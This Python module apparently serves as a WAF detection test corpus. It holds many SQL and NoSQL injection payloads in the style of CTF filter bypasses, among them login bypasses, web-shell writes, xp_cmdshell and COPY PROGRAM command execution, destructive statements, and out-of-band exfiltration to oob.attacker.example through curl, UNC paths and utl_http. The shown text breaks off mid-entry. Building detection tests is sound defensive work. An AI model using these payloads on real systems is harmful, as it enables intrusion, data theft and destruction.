"""Blind set "hundredfiftyfifth": SQL and NoSQL injection the way capture-the-flag players solve web challenges,
with benign requests that carry the same words innocently.

The angle: CTF write-ups, recalled from memory. Every web challenge has a filter, so each winning payload works
under a constraint (no spaces, no quotes, no commas, a keyword blacklist that deletes words once, a length limit,
lowercase only, no slashes or dots, only certain characters, addslashes() on a GBK connection, a second-order
sink, a parser differential between a front filter and the database) and still reaches the family's real goal:
read the flag table or file, bypass the login, dump the catalog, write a web shell, run a command through the
database, or leak data to an out-of-band host. Each group of payloads carries a short comment naming its
constraint and its target (MySQL/MariaDB, PostgreSQL, SQLite, SQL Server, Oracle, MongoDB).

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole MongoDB login documents go as the
JSON body; PHP/Express bracket operators (`password[$ne]=1`) go as raw `name=value` pairs. Payloads with control
characters (newline, tab, vertical tab standing in for spaces) never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, CTF
write-ups as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredfiftyfifth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
KV = ("form", "rs-raw-body")

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: short token streams that break out of a string or number and turn the WHERE clause around
LIBINJECTION: list[Entry] = [
    # MySQL 5.7 login challenge, the filter bans the space character: comments and parentheses stand in
    "admin'/**/or/**/1=1#",
    "'or(1)=(1)#",
    "1'||(1)#",
    # MySQL, spaces banned but newline, tab and vertical tab pass (all whitespace to the MySQL lexer)
    "admin'\nor\n1=1\n#",
    "1'\tor\t'a'='a",
    "1'\x0bor\x0b1#",
    # MySQL string arithmetic: the blacklist bans or/and/=, the comparison still collapses to true
    "'-'",
    "'^'",
    "'*'",
    "'=0#",
    "'+0#",
    # numeric id parameter, quotes escaped by magic_quotes: no quote needed at all (MySQL, SQLite)
    "1 or 1=1",
    "0||1",
    "-1 or id=1",
    "1 xor 1",
    # double-quoted string context, the query wraps input in "..." (SQLite Flask challenge)
    '" or ""="',
    '") or ("1"="1',
    '"or"1"--',
    # parenthesised context: where (username='...') and where ((id=...))
    "') or ('1'='1",
    "')) or 1=1#",
    "1) or (1=1",
    # addslashes() on a GBK connection: a 3-byte UTF-8 character swallows the backslash (MySQL wide byte)
    "\u904b' or 1=1#",
    "\u9326' or '1'='1'#",
    # the filter blacklists lowercase 'or' only (case-sensitive match); MySQL keywords ignore case
    "'OR 1#",
    "1'Or'1'='1",
    # PostgreSQL, length limit 12 characters
    "'or 1=1--",
    "' or true--",
    # Oracle, the query ends with AND ROWNUM=1 after the injection point
    "' or 1=1 or 'a'='b",
]

# sql-tautology/boolean: the always-true (or probe-true) condition that turns the WHERE clause
TAUTOLOGY: list[Entry] = [
    # MySQL, '=' banned: other operators that still say true
    "' or 2>1#",
    "' or 1<>0#",
    "' or not 0#",
    "'or!0#",
    "' or 1 is not null#",
    "' or true is true#",
    "' or 1<=>1#",
    # MySQL, digits banned: true and pi() are numbers too
    "' or true#",
    "' or pi()>true#",
    "'||true||'",
    # MySQL boolean-blind oracle: the page differs when the flag starts with the guessed character
    "1' and (select substr(flag,1,1) from flag)='f'#",
    "1' and (select count(*) from flag)>0#",
    "1' and 1=1#",
    "1' and 1=2#",
    "1' and if((select length(flag) from flag)>30,1,0)#",
    "1'^(select ascii(mid(flag,1,1))>102 from flag)^'1",
    # SQLite boolean oracle, only '|' and letters allowed after the quote
    "'||(select 1 from sqlite_master where name like 'fl%')||'",
    "' or (select count(*) from sqlite_master)>1--",
    # PostgreSQL, the boolean must be a real boolean
    "' or 1::bool--",
    "' or 'x'::text='x'--",
    "1 and (select current_setting('is_superuser'))='on'",
    # SQL Server, no boolean type: compare integers
    "' or 1=1 and 'a'='a",
    "1 or @@rowcount=0--",
    "' or len(db_name())>0--",
    # Oracle boolean probe on the dual table
    "' or 1=(select 1 from dual)--",
    "' or (select count(*) from user_tables)>0--",
    # the challenge flips the comparison to NOT: a false condition becomes the winning one
    "' and 0 or 'x'='x",
    "' xor 1 xor '",
]

# sql-comment-sequence: comments that cut off the rest of the query or split keywords between fields
COMMENT: list[Entry] = [
    # MySQL, the rest of the query must go: every MySQL comment style
    "admin'--",
    "admin'-- -",
    "admin'#",
    "admin'/*",
    "1'--+",
    "1'-- \n",
    "1';#",
    # MySQL, '#' and '-' banned: an unterminated C comment is accepted at the end of input
    "' or 1=1/*",
    "1' or '1'='1'/*",
    # MySQL, ';' needed: the backend appends LIMIT 1 after the injection
    "' or 1=1 limit 1;-- ",
    "' or 1=1;/*",
    # two-field login challenge: the comment opens in the username and closes in the password
    "ctf'/*",
    "*/or/**/1=1#",
    "*/ or '1'='1",
    # SQLite, only '--' and C comments exist
    "' or 1=1--",
    "' or 1 --",
    "1'/**/--",
    # PostgreSQL, nested comments must balance
    "' or 1=1/* /* */ */--",
    "1/**/or/**/1=1--",
    # SQL Server, the query continues with quotes: cut it short
    "';--",
    "' or 1=1;--",
    "1);--",
    # Oracle, '--' is the only line comment
    "' or 'a'='a'--",
    "' or rownum=1--",
    # MySQL, comment hides the original WHERE tail behind a newline in the second-order sink (stored username)
    "admin'#\n",
    "x'/**/||/**/1#",
    # MySQL, the filter strips '--' once: an overlapping sequence survives
    "admin'---- -",
    "admin'##",
]

# union-select: read the flag table, a file or the catalog through the visible columns
UNION: list[Entry] = [
    # MySQL, three visible columns, find the flag table
    "-1' union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()#",
    "-1' union select 1,group_concat(flag),3 from ctf.flag#",
    "0' union all select null,flag,null from flag-- -",
    "1' union distinct select 1,2,3#",
    # MySQL, spaces banned: parentheses and comments stand in
    "-1'union(select(flag)from(flag))#",
    "-1'union/**/select/**/1,flag,3/**/from/**/flag#",
    "-1'\nunion\nselect\n1,flag\nfrom\nflag#",
    # MySQL, the filter deletes union/select once (non-recursive str_replace)
    "-1' ununionion selselectect 1,flag,3 from flag#",
    "-1' uniunionon seleselectct flag from flag#",
    # MySQL, case-sensitive blacklist
    "-1' UnIoN SeLeCt 1,flag,3 FrOm flag#",
    "-1' UNION SELECT 1,FLAG,3 FROM FLAG#",
    # MySQL, commas banned: join derived tables instead of a column list
    "-1' union select * from (select 1)a join (select flag from flag)b join (select 3)c#",
    "-1' union select * from ((select 1)a join (select 2)b join (select group_concat(flag) from flag)c)#",
    # MySQL, read a file through union
    "-1' union select 1,load_file('/flag'),3#",
    "-1' union select 1,load_file(0x2f666c6167),3#",
    # MySQL, the column named flag is unknown: select the n-th column without its name
    "-1' union select 1,(select `2` from (select 1,2 union select * from flag)x limit 1,1),3#",
    # SQLite challenge
    "' union select sql,2 from sqlite_master--",
    "' union select group_concat(name),2 from sqlite_master where type='table'--",
    "0 union select flag,null from flags",
    # PostgreSQL
    "' union select null,string_agg(flag,',') from flags--",
    "' union select null,pg_read_file('/flag.txt')--",
    "-1 union select null,version()",
    # SQL Server
    "' union select null,name from sys.tables--",
    "' union all select top 1 null,flag from dbo.flags--",
    # Oracle: every select needs a from
    "' union select null,banner from v$version--",
    "' union select null,flag from flags where rownum=1--",
    # MySQL, the filter bans 'select' but MySQL 8 has TABLE and VALUES statements
    "-1' union table flag#",
    "-1' union values row(1,2,3)#",
]

# stacked-queries: a second statement after a semicolon
STACKED: list[Entry] = [
    # MySQL via PHP multi_query, select banned: handler reads the flag table directly
    "1';handler flag open;handler flag read first;handler flag close;#",
    "1';show databases;#",
    "1';show tables;#",
    "1';show columns from `1919810931114514`;#",
    # MySQL, select banned: rename the flag table into the one the page prints
    "1';rename table words to w2;rename table `1919810931114514` to words;alter table words change flag id "
    "varchar(100);#",
    # MySQL, select banned: prepare a hex-encoded statement
    "1';set @s=0x73656c65637420666c61672066726f6d20666c6167;prepare q from @s;execute q;#",
    "1';set @a=concat('sel','ect flag from flag');prepare b from @a;execute b;#",
    "1';preparE x from concat(char(115,101,108,101,99,116),' * from flag');EXECUTE x;#",
    # MySQL, write a web shell through a second statement
    "1';select '<?php system($_GET[0]);?>' into outfile '/var/www/html/s.php';#",
    "1';set global general_log=on;set global general_log_file='/var/www/html/l.php';select '<?php "
    "eval($_POST[1]);?>';#",
    # MySQL second-order: insert a crafted admin row
    "';insert into users(username,password,role) values('ctf','x','admin');-- -",
    "';update users set password='pwned' where username='admin';-- -",
    "';delete from sessions;-- -",
    "';drop table logs;-- -",
    # PostgreSQL: command execution with COPY ... PROGRAM
    "1;copy (select '') to program 'id > /tmp/o'--",
    "1;create table o(t text);copy o from program 'cat /flag';select * from o--",
    "';select pg_sleep(5);--",
    "1;alter user ctf with superuser--",
    # SQLite: attach a new database file under the web root and write PHP into it
    "';attach database '/var/www/html/x.php' as p;create table p.t(c text);insert into p.t values('<?php "
    "system($_GET[c]);?>');--",
    # SQL Server
    "1;exec master..xp_cmdshell 'whoami'--",
    "';exec('sel'+'ect * from flags');--",
    "1;declare @q nvarchar(99);set @q='select flag from flags';exec sp_executesql @q--",
    "';shutdown with nowait;--",
    "1;create login ctf with password='P@ss1';exec sp_addsrvrolemember 'ctf','sysadmin'--",
    # Oracle: stacked via an anonymous PL/SQL block (execute immediate)
    "1;begin execute immediate 'grant dba to ctf'; end;",
    # MySQL multi_query, the filter checks only the first line of the value
    "1';\nselect flag from flag into outfile '/tmp/f';#",
    "1';do sleep(5);#",
    "1';lock tables flag read;#",
]

# time-based-blind: no output at all, the response time is the oracle
TIME: list[Entry] = [
    # MySQL, no output, no errors
    "1' and sleep(5)#",
    "1'and(sleep(5))#",
    "1' and if(ascii(substr((select flag from flag),1,1))>100,sleep(3),0)#",
    "1' and (select 1 from (select sleep(5))a)#",
    "1'=sleep(5)='1",
    "1 rlike sleep(5)",
    "1' or sleep(5)-- -",
    # MySQL, the classic polyglot that works in any quote context
    "'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    "\"XOR(if(now()=sysdate(),sleep(5),0))XOR\"Z",
    "if(now()=sysdate(),sleep(5),0)",
    # MySQL, sleep banned: benchmark, heavy joins, lock waits
    "1' and benchmark(50000000,md5(1))#",
    "1' and benchmark(9999999,sha1(sha1(1)))#",
    "1' and (select count(*) from information_schema.columns a,information_schema.columns b,"
    "information_schema.columns c)#",
    "1' and get_lock('ctf',5)#",
    "1' and rpad('a',4999999,'a') rlike concat(repeat('(a.*)+',30),'b')#",
    # PostgreSQL
    "'||pg_sleep(5)--",
    "1;select pg_sleep(5)--",
    "' and 1=(select 1 from pg_sleep(5))--",
    "' || (select case when (substr(current_user,1,1)='p') then pg_sleep(5) else pg_sleep(0) end)--",
    "1 and (select count(*) from generate_series(1,30000000))>0",
    # SQL Server
    "1;waitfor delay '0:0:5'--",
    "'; if (substring(db_name(),1,1)='c') waitfor delay '00:00:05'--",
    "1 waitfor delay '0:0:5'",
    # SQLite: randomblob makes the CPU work
    "1' and 1=like('ABCDEFG',upper(hex(randomblob(300000000))))--",
    "' or (select count(*) from sqlite_master, sqlite_master, sqlite_master, sqlite_master)--",
    # Oracle
    "' and 1=dbms_pipe.receive_message('a',5)--",
    "' and 1=(select count(*) from all_objects,all_objects,all_objects)--",
    # ORDER BY sink, digits banned: sleep(true+true+true+true+true)
    "if(1,sleep(true+true+true+true+true),1)",
]

# error-based: the error message carries the flag back
ERROR: list[Entry] = [
    # MySQL 5.x/8, errors are printed: XPath functions with an invalid path
    "1' and extractvalue(1,concat(0x7e,(select flag from flag),0x7e))#",
    "1' and updatexml(1,concat(0x7e,(select group_concat(table_name) from information_schema.tables where "
    "table_schema=database()),0x7e),1)#",
    "'and(updatexml(1,concat(0x7e,(select(flag)from(flag)),0x7e),1))#",
    "1'^extractvalue(1,concat(0x5c,(select group_concat(column_name) from information_schema.columns where "
    "table_name='flag')))^'1",
    # MySQL, the XPath error shows only 32 characters: take the flag in halves
    "1' and updatexml(1,concat(0x7e,right((select flag from flag),30)),1)#",
    "1' and updatexml(1,concat(0x7e,mid((select flag from flag),25,30)),1)#",
    "1' and extractvalue(1,concat(0x7e,reverse((select flag from flag))))#",
    # MySQL, the double-query floor(rand()) duplicate key error
    "1' and (select 1 from (select count(*),concat((select flag from flag),floor(rand(0)*2))x from "
    "information_schema.tables group by x)a)#",
    # MySQL, XPath functions banned: BIGINT overflow, geometry, GTID and JSON errors
    "1' and exp(~(select * from (select user())a))#",
    "1' and geometrycollection((select * from (select * from (select version())a)b))#",
    "1' and multipoint((select * from (select * from (select user())a)b))#",
    "1' and gtid_subset(concat(0x7e,(select flag from flag)),1)#",
    "1' and st_latfromgeohash((select * from (select flag from flag)a))#",
    "1' and json_keys((select convert((select flag from flag) using utf8mb4)))#",
    "1' and (select * from (select name_const(version(),1),name_const(version(),1))a)#",
    # PostgreSQL: cast the text to a number
    "1' and 1=cast((select flag from flags limit 1) as int)--",
    "' and 1=cast(version() as numeric)--",
    "1 and (select flag from flags)::int=1",
    "' and 1=cast(current_database() as int)--",
    # SQL Server: implicit conversion errors name the value
    "1 and 1=convert(int,@@version)",
    "' and 1=convert(int,(select top 1 flag from flags))--",
    "' and 1=(select top 1 table_name from information_schema.tables)--",
    "1 and 1=cast(db_name() as int)--",
    # Oracle
    "' and 1=ctxsys.drithsx.sn(1,(select banner from v$version where rownum=1))--",
    "' and 1=utl_inaddr.get_host_name((select user from dual))--",
    "' and 1=(select upper(xmltype(chr(60)||chr(58)||(select user from dual)||chr(62))) from dual)--",
    # SQLite, errors printed: the failed library path carries the flag; an integer overflow is the oracle
    "' and load_extension((select flag from flag))--",
    "1' and abs(-9223372036854775808)--",
]

# out-of-band: push the data to a host we control, or write/read files
OOB: list[Entry] = [
    # MySQL on Windows (secure_file_priv empty): UNC path through DNS
    "1' and load_file(concat('\\\\\\\\',(select hex(flag) from flag),'.oob.attacker.example\\\\a'))#",
    "1' and (select load_file('\\\\\\\\oob.attacker.example\\\\share'))#",
    "1' union select 1,2 into outfile '\\\\\\\\oob.attacker.example\\\\x'#",
    # MySQL, write a web shell to the document root
    "1' union select 1,'<?php system($_GET[c]);?>' into outfile '/var/www/html/c.php'#",
    "1' into outfile '/var/www/html/t.php' lines terminated by 0x3c3f706870206576616c28245f504f53545b315d293b3f3e#",
    "1' union select 0x3c3f3d60245f4745545b305d603f3e into dumpfile '/var/www/html/d.php'#",
    "-1' union select 1,load_file('/var/www/html/flag.php'),3#",
    "1' and load_file('/etc/passwd') is not null#",
    # SQL Server: xp_dirtree / xp_fileexist / xp_subdirs make the server authenticate to our SMB host
    "1;exec master..xp_dirtree '\\\\oob.attacker.example\\a'--",
    "';declare @h varchar(99);select @h=(select top 1 flag from flags);exec('master..xp_dirtree ''\\\\'+@h+"
    "'.oob.attacker.example\\a''');--",
    "1;exec master..xp_fileexist '\\\\oob.attacker.example\\x'--",
    "1;exec xp_subdirs '\\\\oob.attacker.example\\s'--",
    "1;select * from openrowset('SQLOLEDB','server=oob.attacker.example;uid=sa;pwd=x','select 1')--",
    "1;bulk insert t from '\\\\oob.attacker.example\\f.txt'--",
    # Oracle: HTTP and DNS from the database
    "' and 1=utl_http.request('http://oob.attacker.example/'||(select user from dual))--",
    "' and (select httpuritype('http://oob.attacker.example/'||user).getclob() from dual) is not null--",
    "' and 1=utl_inaddr.get_host_address((select user from dual)||'.oob.attacker.example')--",
    "' and dbms_ldap.init((select user from dual)||'.oob.attacker.example',80) is not null--",
    "' and (select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
    "\"http://oob.attacker.example/\">%x;]>'),'/l') from dual) is not null--",
    # PostgreSQL: dblink, COPY PROGRAM, file reads
    "';select dblink_connect('host='||(select current_user)||'.oob.attacker.example user=a dbname=b');--",
    "';copy (select '') to program 'nslookup `whoami`.oob.attacker.example';--",
    "';copy (select flag from flags) to program 'curl -d @- http://oob.attacker.example/';--",
    "' union select null,pg_read_file('/etc/passwd',0,200)--",
    "';select lo_import('/flag');--",
    "';select lo_export(16384,'/var/www/html/s.php');--",
    # SQLite: attach a file as a database to exfiltrate through the web root
    "';attach database '/var/www/html/dump.txt' as d;create table d.t as select * from flags;--",
    # MySQL, the DNS label must be hex: the flag has braces and underscores
    "1' and load_file(concat(0x5c5c5c5c,hex(substr((select flag from flag),1,30)),0x2e6f6f622e61747461636b65722e"
    "6578616d706c655c5c61))#",
    "1' and (select sys_eval(concat('curl http://oob.attacker.example/',(select flag from flag))))#",
]

# information-schema/catalog probing: find the flag's table and columns
CATALOG: list[Entry] = [
    # MySQL, the standard catalog
    "-1' union select 1,group_concat(schema_name),3 from information_schema.schemata#",
    "-1' union select 1,group_concat(column_name),3 from information_schema.columns where table_name='flag'#",
    "-1' union select 1,group_concat(table_name,0x3a,column_name),3 from information_schema.columns where "
    "table_schema=database()#",
    "1' and (select count(*) from information_schema.tables where table_schema=database())=2#",
    # MySQL, 'information_schema' banned: the InnoDB statistics and sys schema still list tables
    "-1' union select 1,group_concat(table_name),3 from mysql.innodb_table_stats where database_name=database()#",
    "-1' union select 1,group_concat(table_name),3 from mysql.innodb_index_stats#",
    "-1' union select 1,group_concat(table_name),3 from sys.schema_table_statistics_with_buffer#",
    "-1' union select 1,group_concat(object_name),3 from sys.x$schema_flattened_keys#",
    "-1' union select 1,group_concat(table_name),3 from sys.schema_auto_increment_columns#",
    "-1' union select 1,group_concat(object_name),3 from performance_schema.objects_summary_global_by_type#",
    # MySQL, the environment: who and where
    "-1' union select 1,concat_ws(0x3a,user(),database(),version(),@@datadir),3#",
    "-1' union select 1,@@secure_file_priv,3#",
    "-1' union select 1,@@hostname,@@version_compile_os#",
    "-1' union select 1,schema(),current_user()#",
    # SQLite
    "' union select name,sql from sqlite_master where type='table'--",
    "' union select group_concat(tbl_name),2 from sqlite_schema--",
    "' union select sqlite_version(),2--",
    "' union select name,2 from pragma_table_info('flags')--",
    # PostgreSQL
    "' union select null,string_agg(tablename,',') from pg_catalog.pg_tables where schemaname='public'--",
    "' union select null,string_agg(relname,',') from pg_class where relkind='r'--",
    "' union select null,current_database()||':'||current_user--",
    "' union select null,string_agg(usename,',') from pg_user--",
    # SQL Server
    "' union select null,name from sysobjects where xtype='U'--",
    "' union select null,name from master..sysdatabases--",
    "' union select null,db_name(0)--",
    "' union select null,column_name from information_schema.columns where table_name='flags'--",
    # Oracle
    "' union select null,table_name from all_tables where owner=user--",
    "' union select null,column_name from user_tab_columns where table_name='FLAGS'--",
]

# mysql-comment-obfuscation: MySQL versioned comments and comment-splitting against keyword filters
MYCOMMENT: list[Entry] = [
    # MySQL, keyword blacklist on union/select: versioned comments are executed by MySQL
    "-1' /*!union*/ /*!select*/ 1,flag,3 from flag#",
    "-1' /*!50000union*/ /*!50000select*/ 1,flag,3 from flag#",
    "-1'/*!12345union*//*!12345select*/1,flag,3/*!from*/flag#",
    "-1' /*!00000union*/ /*!00000all*/ /*!00000select*/ 1,2,3#",
    "-1'/*!50000UnIoN*//*!50000SeLeCt*/1,group_concat(table_name),3/*!50000FrOm*/information_schema.tables#",
    "1'/*!and*/sleep(5)#",
    "'/*!or*/1=1#",
    "'/*!50000or*/1=1-- -",
    "1'/*!44444and*/updatexml(1,concat(0x7e,user()),1)#",
    # MySQL, the filter removes /**/ once: the keyword is rebuilt after the strip
    "-1' un/**/ion se/**/lect 1,flag,3 fr/**/om flag#",
    "1' o/**/r 1=1#",
    # MySQL, spaces banned: comments with junk inside stand in for whitespace
    "-1'/*foo*/union/*bar*/select/*baz*/1,flag,3/*x*/from/*y*/flag#",
    "-1'/**_**/union/**_**/select/**_**/1,2,3#",
    "-1'/*--*/union/*--*/select/*--*/1,2,3#",
    "-1'/*!*/union/*!*/select/*!*/1,2,3#",
    # MySQL, union-select pair matched with anything between: a line comment and newline split them
    "-1' union#x\nselect 1,flag,3 from flag#",
    "-1' union-- x\nselect 1,flag,3 from flag#",
    "-1' union/*!*/ all /*!*/select 1,2,3#",
    # MySQL, HTTP parameter pollution: two values joined with ',' by the framework, comment hides the join
    "-1' union/*",
    "*/select 1,flag,3 from flag#",
    # MySQL, function-name blacklist: versioned comment around the function name
    "1' and /*!extractvalue*/(1,concat(0x7e,(select flag from flag)))#",
    "1' and /*!50000updatexml*/(1,/*!concat*/(0x7e,database()),1)#",
    "1' and /*!sleep*/(5)#",
    "-1' union select 1,/*!group_concat*/(flag),3 from flag#",
    # MySQL, version-gated comment only runs on the target version (fingerprinting)
    "1' /*!50700and 1=0*/#",
    "1' and 1=1 /*!80000and sleep(3)*/#",
    "/*!32302 1/0, */ 1",
    "select/*!40101 flag*/from flag",
]

# function-based-probing: extract the flag one character at a time with string functions
FUNCTION: list[Entry] = [
    # MySQL, standard blind extraction
    "1' and ascii(substring((select flag from flag),1,1))>102#",
    "1' and ord(mid((select flag from flag),2,1))=108#",
    "1' and substr((select database()),1,1)='c'#",
    "1' and left((select flag from flag),5)='flag{'#",
    "1' and right(left((select flag from flag),6),1)='a'#",
    # MySQL, commas banned: FROM ... FOR syntax
    "1' and ascii(substr((select flag from flag) from 1 for 1))=102#",
    "1' and ascii(mid((select flag from flag) from 3))>96#",
    "1'and(ascii(substr((select(flag)from(flag))from(4)for(1)))>96)#",
    # MySQL, substr/mid banned: other ways to reach a character
    "1' and lpad((select flag from flag),1,1)='f'#",
    "1' and rpad((select flag from flag),2,1)='fl'#",
    "1' and instr((select flag from flag),'flag{')=1#",
    "1' and locate('flag{',(select flag from flag))=1#",
    "1' and position('{' in (select flag from flag))=5#",
    "1' and strcmp(left((select flag from flag),1),'f')=0#",
    "1' and hex(substring((select flag from flag),1,1))=66#",
    "1' and conv(hex(substr(user(),1,1)),16,10)>96#",
    "1' and bin(ascii(substr(database(),1,1)))=1100011#",
    # MySQL, 'ascii' and 'ord' banned
    "1' and greatest(ascii(mid(user(),1,1)),100)=100#",
    "1' and length((select flag from flag))=38#",
    "1' and elt(ascii(mid(database(),1,1))>100,1)#",
    "1' and make_set(ascii(mid(database(),1,1))>100,sleep(3))#",
    # PostgreSQL
    "' and ascii(substring((select flag from flags limit 1),1,1))>102--",
    "' and substr(current_user,1,1)=chr(112)--",
    # SQLite
    "' and unicode(substr((select flag from flags),1,1))=102--",
    "' and hex(substr((select flag from flags),1,1))='66'--",
    # SQL Server
    "' and unicode(substring((select top 1 flag from flags),1,1))=102--",
    # Oracle
    "' and ascii(substr((select user from dual),1,1))>64--",
    "' and (select concat(concat(user,'@'),sys_context('userenv','db_name')) from dual) like 'S%'--",
]

# sql-authentication-bypass: log in as admin without the password
AUTH: list[Entry] = [
    # MySQL login form, the password is checked in the same query
    "admin' or '1'='1'#",
    "admin' or 1=1 limit 1#",
    "' or 1=1 limit 1 offset 1#",
    "' or username='admin'#",
    "' or ''='",
    "'='",
    "'or'='or'",
    "admin'||'1",
    # MySQL, password is md5()'d raw: the raw digest of this string contains 'or'6
    "ffifdyop",
    # MySQL, the password hash is compared in PHP: union a row with a known md5('admin')
    "' union select 1,'admin','21232f297a57a5a743894a0e4a801fc3'#",
    "x' union select 'admin','e10adc3949ba59abbe56e057f20f883e',1#",
    # MySQL, addslashes on both fields: a trailing backslash eats the quote between them
    ('{"username":"admin\\\\","password":" or 1=1#"}',) + JB,
    ('{"username":"\\\\","password":"||1#"}',) + JB,
    # Node.js mysql package expands a JSON object to `key`=value: password = `password` = 1 is true
    ('{"username":"admin","password":{"password":1}}',) + JB,
    ('{"username":"admin\' -- -","password":"x"}',) + JB,
    # MySQL, 'or' banned: logical || and xor
    "admin'||1#",
    "admin' xor 0#",
    "' || username like 'adm%'#",
    # SQLite login challenge
    "administrator'--",
    "' or 1--",
    "admin' or 1=1--",
    # PostgreSQL login
    "admin'::text--",
    "' or 1=1 offset 0--",
    # SQL Server login
    "admin' or len('a')=1--",
    "' or 'x'='x';--",
    # Oracle login
    "admin' or 'a'='a",
    # length limit 8 characters: the shortest MySQL bypasses
    "'||1#",
    "'-0#",
]

# nosql-injection: MongoDB operators through JSON and bracket syntax, and $where JavaScript
NOSQL: list[Entry] = [
    # MongoDB via Express (body-parser JSON): operators instead of strings
    ('{"username":{"$ne":null},"password":{"$ne":null}}',) + JB,
    ('{"username":"admin","password":{"$gt":""}}',) + JB,
    ('{"username":"admin","password":{"$regex":"^flag\\\\{a"}}',) + JB,
    ('{"username":{"$in":["admin","root","administrator"]},"password":{"$exists":true}}',) + JB,
    ('{"username":{"$regex":".*"},"password":{"$ne":"x"}}',) + JB,
    ('{"username":"admin","password":{"$not":{"$eq":"x"}}}',) + JB,
    ('{"$or":[{"username":"admin"},{"a":{"$ne":1}}],"password":{"$ne":1}}',) + JB,
    ('{"username":"admin","password":{"$nin":["a"]}}',) + JB,
    ('{"username":{"$gte":"a"},"password":{"$lt":"~"}}',) + JB,
    # MongoDB $where: server-side JavaScript, a timing oracle and a flag probe
    ('{"$where":"this.username==\'admin\'&&this.password.match(/^flag{/)"}',) + JB,
    ('{"$where":"sleep(5000)||true"}',) + JB,
    ('{"username":"admin","$where":"1==1"}',) + JB,
    ('{"username":{"$expr":{"$eq":[{"$substrCP":["$password",0,1]},"f"]}}}',) + JB,
    ('{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}',) + JB,
    # MongoDB via PHP or qs: bracket operators in a form body
    ("username=admin&password[$ne]=wrong",) + KV,
    ("username[$ne]=x&password[$ne]=x",) + KV,
    ("username=admin&password[$regex]=^flag\\{b",) + KV,
    ("username[$regex]=^adm&password[$gt]=",) + KV,
    ("username=admin&password[$exists]=true",) + KV,
    ("user[$nin][]=guest&pass[$ne]=1",) + KV,
    ("username[$in][]=admin&password[$gt]=",) + KV,
    # MongoDB $where built by string concatenation in the app ("this.user == '" + input + "'")
    "' || '1'=='1",
    "'||this.role=='admin'||'",
    "'; return true; var x='",
    "admin' && this.password.match(/^f/)//",
    "';sleep(5000);'",
    "1;while(true){}",
    "' || db.getCollectionNames().length>0 || '",
]

# hex/char encoding: strings written without quotes
ENCODING: list[Entry] = [
    # MySQL, quotes banned: hex literals for strings
    "1 union select 1,flag,3 from flag where id=0x31",
    "-1 union select 1,group_concat(column_name),3 from information_schema.columns where table_name=0x666c6167",
    "1 or username=0x61646d696e",
    "1 and (select flag from flag) like 0x666c61677b25",
    "-1 union select 1,load_file(0x2f6574632f706173737764),3",
    "-1 union select 1,unhex('666c6167'),3",
    "1 or username=x'61646d696e'",
    "1 or username=0b0110000101100100011011010110100101101110",
    # MySQL, quotes banned: char() builds the string
    "1 or username=char(97,100,109,105,110)",
    "-1 union select 1,group_concat(column_name),3 from information_schema.columns where table_name=char(102,108,97,"
    "103)",
    "1 or username=concat(char(97),char(100),char(109),char(105),char(110))",
    "1 or username=char(0x61,0x64,0x6d,0x69,0x6e)",
    "-1 union select 1,from_base64(0x5a6d78685a773d3d),3",
    "1 or username=_binary 0x61646d696e",
    "1 or username=_latin1 0x61646d696e collate latin1_bin",
    "1 or username=convert(0x61646d696e using utf8)",
    # PostgreSQL, quotes banned: chr() and dollar quoting
    "1 or username=chr(97)||chr(100)||chr(109)||chr(105)||chr(110)",
    "1 or username=$$admin$$",
    "1 or username=$q$admin$q$",
    "1 union select null,convert_from(decode($$666c6167$$,$$hex$$),$$utf8$$)",
    # SQL Server, quotes banned
    "1 or username=char(97)+char(100)+char(109)+char(105)+char(110)",
    "1;declare @s varchar(99)=0x73656c65637420666c61672066726f6d20666c616773;exec(@s)--",
    "1 or username=nchar(97)+nchar(100)+nchar(109)+nchar(105)+nchar(110)",
    # SQLite, quotes banned
    "1 union select name,sql from sqlite_master where type=char(116,97,98,108,101)",
    "1 or username=cast(x'61646d696e' as text)",
    # Oracle, quotes banned
    "1 or username=chr(97)||chr(100)||chr(109)||chr(105)||chr(110)--",
    "1 or user=utl_raw.cast_to_varchar2(hextoraw(414443))--",
    # MySQL behind a JSON API, the filter checks the raw body: the JSON parser turns \u0027 into a quote
    ('{"id":"1\\u0027 or 1=1#"}',) + JB,
]

# stored-procedure/xp_cmdshell: run commands or dangerous procedures through the database
PROC: list[Entry] = [
    # SQL Server, sa context
    "'; exec xp_cmdshell 'whoami';--",
    "1;exec master.dbo.xp_cmdshell 'type c:\\flag.txt'--",
    "1;EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;--",
    "';exec('xp_'+'cmdshell ''whoami''');--",
    "1;declare @c varchar(99)=0x77686f616d69;exec master..xp_cmdshell @c--",
    "1;exec xp_cmdshell 'powershell -enc dwBoAG8AYQBtAGkA'--",
    "';declare @o int;exec sp_oacreate 'wscript.shell',@o out;exec sp_oamethod @o,'run',null,'cmd /c whoami "
